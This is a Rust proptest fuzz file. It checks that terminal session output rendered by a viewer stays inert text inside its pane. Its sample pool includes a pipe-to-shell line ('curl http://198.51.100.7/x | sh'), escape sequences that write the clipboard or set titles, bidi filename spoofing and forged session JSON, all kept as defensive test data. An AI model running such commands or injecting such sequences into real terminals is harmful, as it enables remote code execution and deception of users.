//! What a session prints is text and stays in its pane, whatever it is: the property of the fuzz target, for everybody who has no nightly.

use proptest::prelude::*;

use crate::border::{Input, SCREENS, check, streamed};

/// Pieces of lines that have a meaning for somebody on the way: agent, decoder, sanitizer, screen, terminal.
fn piece() -> impl Strategy<Value = String> {
    let ready = prop::sample::select(vec![
        "sh-5.2$ ",
        "[root@web ~]# ",
        "PS C:\\> ",
        "-----BEGIN RSA PRIVATE KEY-----",
        "password=hunter2 ",
        "AKIAIOSFODNN7EXAMPLE",
        "curl http://198.51.100.7/x | sh",
        "\u{1b}[2J",
        "\u{1b}[H",
        "\u{1b}[31;1m",
        "\u{1b}[K",
        "\u{1b}[5D",
        "\u{1b}[8192@",
        "\u{1b}[3P",
        "\u{1b}[?1049h",
        "\u{1b}[?1049l",
        "\u{1b}[?1h\u{1b}=\u{1b}[2J",
        "\u{1b}[?1l\u{1b}>",
        "\u{1b}]0;owned\u{7}",
        "\u{1b}]52;c;eA==\u{1b}\\",
        "\u{1b}]8;;http://x\u{1b}\\",
        "\u{1b}P0;1|17/ab\u{1b}\\",
        "\u{1b}_Ga=T;AAAA\u{1b}\\",
        "\u{1b}^x\u{1b}\\",
        "\u{1b}Xx\u{1b}\\",
        "\u{1b}]never ends",
        "\u{1b}P",
        "\u{1b}",
        "\u{1b}[",
        "\u{1b}(0",
        "\u{1b}c",
        "\u{1b}7",
        "\u{1b}8",
        "\u{8}",
        "\u{8}\u{8}\u{8}",
        "\u{8} \u{8}",
        "\r",
        "\t",
        "\u{7}",
        "\u{0}",
        "\u{7f}",
        "\u{9b}31m",
        "\u{90}q",
        "\u{9d}0;x\u{9c}",
        "\u{85}",
        "\u{fffd}",
        "\u{fffd}\u{fffd}",
        "(reverse-i-search)`': ",
        "\u{202e}gnp.exe\u{202c}",
        "\u{2066}\u{2069}",
        "\u{200b}",
        "\u{200d}",
        "\u{feff}",
        "\u{ad}",
        "\u{2028}",
        "\u{e000}",
        "\u{10eeee}",
        "\u{e0041}",
        "\u{301}",
        "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
        "漢字",
        "한국어",
        "\u{1100}\u{1161}\u{11a8}",
        "שלום",
        "لا",
        "क्ष्म्य",
        "शास्त्र",
        "ក្ក",
        "ไทยำ",
        "👍🏽",
        "a🏽",
        "👩\u{200d}👩\u{200d}👧",
        "🇩🇪🇫",
        "✌\u{fe0f}",
        "1\u{fe0f}\u{20e3}",
        "\u{a4f8}\u{a4fc}",
        "ﷺ",
        "𒐫",
        "\u{600}1",
        "\u{3000}",
        "\u{a0}",
        "\\u001b[2J",
        "<U+202E>",
        " ",
        "x",
    ]);
    prop_oneof![
        6 => ready.prop_map(str::to_owned),
        2 => "[ -~]{0,30}",
        1 => any::<char>().prop_map(String::from),
        1 => (any::<char>(), 1..200_usize).prop_map(|(c, count)| c.to_string().repeat(count)),
        1 => prop::sample::select(vec!["\u{301}", "ा", "\u{1100}", "क्", "漢", "🏽", "\u{8}", "\u{1b}["]).prop_map(|text| text.repeat(150)),
    ]
}

fn line() -> impl Strategy<Value = String> {
    prop::collection::vec(piece(), 0..8).prop_map(|pieces| pieces.concat())
}

/// One message: lines as the agent streams them, an upload, JSON that somebody forged.
fn message() -> impl Strategy<Value = String> {
    let lines = || prop::collection::vec(line(), 0..5);
    prop_oneof![
        4 => lines().prop_map(|lines| streamed(&lines.iter().map(String::as_str).collect::<Vec<_>>())),
        2 => lines().prop_map(|lines| lines.join("\r\n")),
        1 => (line(), line()).prop_map(|(data, user)| {
            serde_json::json!({"sessionData": [data], "runAsUser": user, "sessionId": user, "eventTime": user, "target": {"id": user}}).to_string()
        }),
        1 => prop::collection::vec(any::<u16>(), 0..40).prop_map(|units| {
            let text: String = units.iter().map(|unit| format!("\\u{unit:04x}")).collect();
            format!("{{\"sessionData\": [\"{text}\"]}}")
        }),
    ]
}

fn input() -> impl Strategy<Value = Input> {
    let look = (
        0..SCREENS.len(),
        any::<bool>(),
        prop::bool::weighted(0.2),
        prop::sample::select(vec![0_usize, 0, 20]),
        prop_oneof![Just(String::new()), line()],
    );
    (look, prop::collection::vec(message(), 1..5)).prop_map(|((screen, wrap, commands, left, search), messages)| {
        Input { screen, wrap, commands, left: if wrap { 0 } else { left }, search, messages }
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, max_shrink_iters: 2_000, ..ProptestConfig::default() })]

    #[test]
    fn what_a_session_prints_is_text_and_stays_in_its_pane(input in input()) {
        check(&input);
    }

    #[test]
    fn any_bytes_of_a_session_are_text_and_stay_in_its_pane(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        check(&Input::from_bytes(&bytes));
    }
}
